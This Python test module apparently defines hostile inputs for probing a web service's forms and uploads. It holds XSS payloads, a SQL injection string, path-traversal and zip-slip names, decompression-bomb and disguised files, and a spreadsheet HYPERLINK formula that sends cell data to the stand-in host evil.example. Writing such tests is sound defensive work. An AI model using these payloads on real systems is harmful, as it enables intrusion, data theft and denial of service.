"""What an attacker sends, by name: into forms (a value per field), into query strings and into the parts of addresses."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.service.forms import LEFT_OUT, TYPED, upload

#: It must never come back as it is.
SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"字")'
HUGE = "9" * 40
#: Texts of a query string or of an address.
STRANGE = (
    "\x00", HUGE, "-1", "1e400", "nan", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "0000-00-00T99:99",
    SCRIPT, "'; DROP TABLE x; --", "../../../../etc/passwd", "%s%n{{7*7}}", "\U0001f600", "字" * 3000, "a/b\\c", "",
)  # fmt: skip


def text_of(words: str):
    """Type the same into every field for words."""
    return lambda field: words if field.kind in TYPED else None


def everywhere(words: str):
    """Send the same in every field, hidden ones and choices included."""
    return lambda field: None if field.kind == "file" else words


def dated(words: str):
    """Send it wherever a day, a time or a number is asked for."""
    return lambda field: (
        words if field.kind in ("date", "datetime-local", "time", "month", "number") else None
    )


def chosen(words: str):
    """Send a choice that was not on offer, or the key of something that is not there."""
    return lambda field: words if field.kind in ("select", "radio", "checkbox", "hidden") else None


def file_of(name: str, data: bytes):
    """Send another file than was asked for."""
    return lambda field: upload(name, data) if field.kind == "file" else None


def nothing(_field):
    """Send an empty form."""
    return LEFT_OUT


def _zip(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def _png(width: int, height: int) -> bytes:
    """Return a picture that says to be so large and holds next to nothing."""
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = b"IDAT" + zlib.compress(b"\x00" * 100)
    parts = [
        struct.pack(">I", len(p) - 4) + p + struct.pack(">I", zlib.crc32(p)) for p in (head, body, b"IEND")
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


#: Every attack on a form, by name.
ATTACKS = {
    "script": text_of(SCRIPT),
    "formula": text_of(FORMULA),
    "nul": everywhere("a\x00b"),
    "nul in words": text_of("a\x00b"),
    "long": text_of("字" * 60_000),
    "half a character": text_of("\ud800".encode("utf-8", "surrogatepass").decode("latin-1")),
    "huge": everywhere(HUGE),
    "huge number": dated(HUGE),
    "negative": dated("-1"),
    "not a number": dated("nan"),
    "endless": dated("1e400"),
    "no such day": dated("2026-02-30"),
    "first day": dated("0001-01-01"),
    "last day": dated("9999-12-31"),
    "last minute": dated("9999-12-31T23:59"),
    "not on offer": chosen("no-such-choice"),
    "another key": chosen("2147483646"),
    "empty": nothing,
    "program": file_of("photo.png", b"MZ\x90\x00" + b"\x00" * 200),
    "page": file_of("paper.pdf", b"<!doctype html><script>alert(1)</script>"),
    "drawing": file_of("photo.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "torn workbook": file_of("table.xlsx", b"PK\x03\x04" + b"\x01" * 300),
    "workbook of nothing": file_of("table.xlsx", _zip(**{"xl__workbook.xml": b"<x"})),
    "swollen": file_of("table.xlsx", _zip(**{"xl__workbook.xml": b"\x00" * 5_000_000})),
    "oversized table": file_of("table.csv", b"a,b\r\n" + b"1,2\r\n" * 5_000_000),
    "oversized photo": file_of("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 13_000_000),
    "swollen photo": file_of("photo.png", _png(60_000, 60_000)),
    "document as a workbook": file_of("table.xlsx", _zip(**{"word__document.xml": b"<w/>"})),
    "way out of an archive": file_of("city.zip", _zip(**{"..__..__etc__passwd": b"x"})),
    "formulas": file_of("table.csv", b'=1+1,"=HYPERLINK(""http://evil.example"")"\r\n@x,+1\r\n'),
    "empty file": file_of("table.csv", b""),
    "table of another kind": file_of("table.csv", "姓名,=1+1\r\n<script>,\x00\r\n".encode()),
    "odd name": file_of("../../../etc/pass\x00wd.csv", b"a,b\r\n1,2\r\n"),
}
